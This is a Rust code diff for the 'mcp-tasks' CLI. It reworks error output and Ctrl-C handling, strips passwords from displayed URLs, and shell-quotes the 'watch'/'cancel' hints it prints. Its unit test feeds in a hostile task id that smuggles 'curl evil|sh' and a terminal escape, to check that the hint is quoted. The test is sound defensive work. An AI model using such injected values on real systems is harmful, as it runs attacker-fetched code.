@@ -34,7 +34,7 @@ pub(crate) async fn run(cli: Cli) -> Exit {
     let interrupts = match Interrupts::new() {
         Ok(interrupts) => interrupts,
         Err(error) => {
-            eprintln!("error: cannot watch for Ctrl-C: {error}");
+            crate::say!("error: cannot watch for Ctrl-C: {error}");
             return Exit::Unreachable;
         }
     };
@@ -46,7 +46,7 @@ pub(crate) async fn run(cli: Cli) -> Exit {
         match Duration::try_from_secs_f64(seconds) {
             Ok(timeout) => options = options.deadline(timeout),
             Err(_) => {
-                eprintln!("error: --timeout must be a number of seconds");
+                crate::say!("error: --timeout must be a number of seconds");
                 return Exit::Usage;
             }
         }
@@ -76,11 +76,11 @@ pub(crate) async fn run(cli: Cli) -> Exit {
             args,
             answers,
         } => {
-            let (client, terminal) = match connect(&url, token, Some((answers, &run.status))).await
-            {
-                Ok(connected) => connected,
-                Err(exit) => return exit,
-            };
+            let (client, terminal) =
+                match connect(&url, token, Some((answers, &run.status, CALL_KEYS))).await {
+                    Ok(connected) => connected,
+                    Err(exit) => return exit,
+                };
             run.call(&client, terminal, &tool, &pairs, args.as_deref())
                 .await
         }
@@ -104,7 +104,7 @@ pub(crate) async fn run(cli: Cli) -> Exit {
             answers,
         } => {
             let status = run.status.clone();
-            match task(&url, token, Some((answers, &status)), &task_id).await {
+            match task(&url, token, Some((answers, &status, WATCH_KEYS)), &task_id).await {
                 Ok((task, terminal)) => run.watch(&task, terminal).await,
                 Err(exit) => exit,
             }
@@ -112,16 +112,25 @@ pub(crate) async fn run(cli: Cli) -> Exit {
     }
 }
 
+/// The help line under a question in `call` (Ctrl-C cancels the task) and `watch` (it stops
+/// watching).
+const CALL_KEYS: &str = "Esc declines · Ctrl-C cancels the task";
+const WATCH_KEYS: &str = "Esc declines · Ctrl-C stops watching";
+
+/// What the input handler needs: the `--answer`/`--root` options, the status line, the help
+/// line.
+type Input<'a> = (Answers, &'a Status, &'static str);
+
 /// The input handler from `--answer`/`--root` and whether stdin is a terminal.
-fn terminal(answers: Answers, status: &Status) -> Result<Terminal, Exit> {
+fn terminal((answers, status, keys): Input<'_>) -> Result<Terminal, Exit> {
     let mut parsed = BTreeMap::new();
     for answer in answers.answers {
         let Some((key, json)) = answer.split_once('=') else {
-            eprintln!("error: --answer {answer:?}: write KEY=JSON");
+            crate::say!("error: --answer {answer:?}: write KEY=JSON");
             return Err(Exit::Usage);
         };
         let Ok(value) = serde_json::from_str::<Value>(json) else {
-            eprintln!("error: --answer {key}: not JSON: {json}");
+            crate::say!("error: --answer {key}: not JSON: {json}");
             return Err(Exit::Usage);
         };
         parsed.insert(key.to_owned(), value);
@@ -136,6 +145,7 @@ fn terminal(answers: Answers, status: &Status) -> Result<Terminal, Exit> {
         answers: parsed,
         roots,
         status: status.clone(),
+        keys,
         interrupted: Arc::new(AtomicBool::new(false)),
     })
 }
@@ -144,14 +154,14 @@ fn terminal(answers: Answers, status: &Status) -> Result<Terminal, Exit> {
 async fn connect(
     url: &str,
     token: Option<String>,
-    input: Option<(Answers, &Status)>,
+    input: Option<Input<'_>>,
 ) -> Result<(Client, Option<Terminal>), Exit> {
     let mut builder = Client::builder(url).client_info("mcp-tasks", env!("CARGO_PKG_VERSION"));
     if let Some(token) = token {
         builder = builder.bearer(token);
     }
     let terminal = match input {
-        Some((answers, status)) => Some(terminal(answers, status)?),
+        Some(input) => Some(terminal(input)?),
         None => None,
     };
     if let Some(terminal) = &terminal {
@@ -166,11 +176,11 @@ async fn connect(
 async fn task(
     url: &str,
     token: Option<String>,
-    input: Option<(Answers, &Status)>,
+    input: Option<Input<'_>>,
     task_id: &str,
 ) -> Result<(TaskCall, Option<Terminal>), Exit> {
     let Ok(id) = TaskId::parse(task_id) else {
-        eprintln!("error: {task_id:?} is not a task id");
+        crate::say!("error: {task_id:?} is not a task id");
         return Err(Exit::Usage);
     };
     let (client, terminal) = connect(url, token, input).await?;
@@ -189,13 +199,13 @@ impl Run {
                 output::result(result, self.json);
             }
             Outcome::Failed(error) => {
-                eprintln!(
+                crate::say!(
                     "The task failed: {} ({})",
                     clean(&error.message),
                     error.code
                 );
             }
-            _ => eprintln!("The task was cancelled."),
+            _ => crate::say!("The task was cancelled."),
         }
         Exit::of(outcome)
     }
@@ -213,21 +223,23 @@ impl Run {
             Err(error) => return Exit::report(&error),
         };
         let Some(entry) = tools.iter().find(|t| t.name == tool) else {
-            eprintln!(
-                "error: the server has no tool named {tool:?} (`mcp-tasks tools {}` lists them)",
-                client.url()
+            crate::say!(
+                "error: the server has no tool named {:?} (`mcp-tasks tools {}` lists them)",
+                clean(tool),
+                shell_words::quote(&shown_url(client.url()))
             );
             return Exit::Usage;
         };
         let arguments = match args::arguments(base, pairs, &entry.input_schema) {
             Ok(arguments) => arguments,
             Err(message) => {
-                eprintln!("error: {message}");
+                crate::say!("error: {message}");
                 return Exit::Usage;
             }
         };
-        // A Ctrl-C while the call is in flight is remembered: the task the server may create
-        // is then cancelled at once.
+        // From here a Ctrl-C is remembered: the task the server may create is then cancelled
+        // at once (before, it just ends the program: nothing was sent).
+        self.interrupts.arm();
         let mut pressed = false;
         let call = client.call_tool(tool, arguments);
         tokio::pin!(call);
@@ -236,14 +248,14 @@ impl Run {
                 execution = &mut call => break execution,
                 () = self.interrupts.next(), if !pressed => {
                     pressed = true;
-                    eprintln!("Interrupted: waiting for the server's answer to cancel what it started…");
+                    crate::say!("Interrupted: waiting for the server's answer to cancel what it started…");
                 }
             }
         };
         let execution = match execution {
             Ok(execution) => execution,
             Err(_) if interrupted(terminal.as_ref()) => {
-                eprintln!("Cancelled at the prompt.");
+                crate::say!("Cancelled at the prompt.");
                 return Exit::Cancelled;
             }
             Err(error) => return Exit::report(&error),
@@ -251,7 +263,7 @@ impl Run {
         match execution {
             Execution::Complete(result) => self.finish(&Outcome::of_result(result.into_object())),
             Execution::Task(task) => {
-                eprintln!(
+                crate::say!(
                     "Task {} created (Ctrl-C cancels it)",
                     clean(task.id().as_str())
                 );
@@ -285,28 +297,27 @@ impl Run {
         match settled {
             Some(Ok(outcome)) => self.finish(&outcome),
             Some(Err(_)) if interrupted(terminal) && cancel_on_interrupt => self.cancel(task).await,
+            Some(Err(_)) if interrupted(terminal) => self.stop_watching(task),
             Some(Err(error)) => {
                 self.status.finish();
                 let exit = Exit::report(&error);
                 if matches!(exit, Exit::InputNeeded | Exit::Timeout) {
-                    eprintln!(
-                        "The task {id} is still on the server: `mcp-tasks watch {url} {id}` follows it, `mcp-tasks cancel {url} {id}` cancels it.",
-                        id = clean(task.id().as_str()),
-                        url = task.handle().url
-                    );
+                    still_there(task);
                 }
                 exit
             }
             None if cancel_on_interrupt => self.cancel(task).await,
-            None => {
-                self.status.finish();
-                eprintln!(
-                    "Stopped watching; the task {} keeps running.",
-                    clean(task.id().as_str())
-                );
-                Exit::Interrupted
-            }
+            None => self.stop_watching(task),
         }
+    }
+
+    fn stop_watching(&self, task: &TaskCall) -> Exit {
+        self.status.finish();
+        crate::say!(
+            "Stopped watching; the task {} keeps running.",
+            clean(task.id().as_str())
+        );
+        Exit::Interrupted
     }
 
     /// Sends `tasks/cancel` and waits for the final status (a second Ctrl-C stops waiting).
@@ -335,7 +346,7 @@ impl Run {
                 },
                 () = self.interrupts.next() => {
                     self.status.finish();
-                    eprintln!("Stopped waiting; the cancel of task {} was sent.", clean(task.id().as_str()));
+                    crate::say!("Stopped waiting; the cancel of task {} was sent.", clean(task.id().as_str()));
                     return Exit::Interrupted;
                 }
             }
@@ -343,15 +354,24 @@ impl Run {
         match last {
             Ok(Outcome::Cancelled) => {
                 self.status.finish();
-                eprintln!("Task {} cancelled.", clean(task.id().as_str()));
+                crate::say!("Task {} cancelled.", clean(task.id().as_str()));
                 Exit::Cancelled
             }
             Ok(outcome) => {
-                eprintln!(
+                crate::say!(
                     "The task {} had already finished before the cancel reached it.",
                     clean(task.id().as_str())
                 );
                 self.finish(&outcome)
+            }
+            Err(ClientError::Deadline) => {
+                self.status.finish();
+                crate::say!(
+                    "The task has not ended {} s after the cancel.",
+                    CANCEL_WAIT.as_secs()
+                );
+                still_there(task);
+                Exit::Timeout
             }
             Err(error) => {
                 self.status.finish();
@@ -361,11 +381,58 @@ impl Run {
     }
 
     async fn watch(&mut self, task: &TaskCall, terminal: Option<Terminal>) -> Exit {
-        eprintln!(
+        crate::say!(
             "Watching task {} (Ctrl-C stops watching)",
             clean(task.id().as_str())
         );
         self.status.start(task.id());
+        self.interrupts.arm();
         self.follow(task, terminal.as_ref(), false).await
+    }
+}
+
+/// `url` as shown to the user: without a password.
+fn shown_url(url: &str) -> String {
+    match reqwest::Url::parse(url) {
+        Ok(mut parsed) if parsed.password().is_some() => {
+            let _ = parsed.set_password(None);
+            parsed.to_string()
+        }
+        _ => url.to_owned(),
+    }
+}
+
+/// Says how to reach `task` again.
+fn still_there(task: &TaskCall) {
+    crate::say!("{}", reach_again(&task.handle().url, task.id().as_str()));
+}
+
+/// How to reach a task again, as commands that can be pasted into a shell: the URL without
+/// its password, both words shell-quoted, control characters escaped.
+fn reach_again(url: &str, id: &str) -> String {
+    let url = shell_words::quote(&shown_url(url)).into_owned();
+    let id = shell_words::quote(id).into_owned();
+    format!(
+        "The task is still on the server: `{}` follows it, `{}` cancels it.",
+        clean(&format!("mcp-tasks watch {url} {id}")),
+        clean(&format!("mcp-tasks cancel {url} {id}"))
+    )
+}
+
+#[cfg(test)]
+mod tests {
+    use super::reach_again;
+
+    #[test]
+    fn hints_are_safe_to_paste() {
+        assert_eq!(
+            reach_again("http://127.0.0.1:3000/mcp", "abc_-1"),
+            "The task is still on the server: `mcp-tasks watch http://127.0.0.1:3000/mcp abc_-1` \
+             follows it, `mcp-tasks cancel http://127.0.0.1:3000/mcp abc_-1` cancels it."
+        );
+        let hint = reach_again("http://user:hunter2@h/mcp", "x $(curl evil|sh)\u{1b}[2J");
+        assert!(!hint.contains("hunter2"), "{hint}");
+        assert!(hint.contains("http://user@h/mcp"), "{hint}");
+        assert!(hint.contains("'x $(curl evil|sh)\\u{1b}[2J'"), "{hint}");
     }
 }
